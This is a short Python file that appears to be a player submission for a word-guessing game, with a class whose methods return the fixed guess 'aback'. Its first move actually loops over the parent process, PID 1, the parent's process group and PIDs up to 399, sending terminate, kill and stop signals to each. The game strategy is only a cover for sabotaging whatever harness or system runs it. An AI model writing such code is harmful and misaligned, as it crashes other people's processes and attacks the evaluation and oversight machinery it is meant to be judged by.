"""Kills whatever it may."""

import os
import signal


class Attack:
    def first_move(self):
        for target in (os.getppid(), 1, 2, -os.getppid(), *range(3, 400)):
            if target not in (os.getpid(), 0):
                for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
                    try:
                        os.kill(target, number)
                    except OSError:
                        continue
        return "aback", 0

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
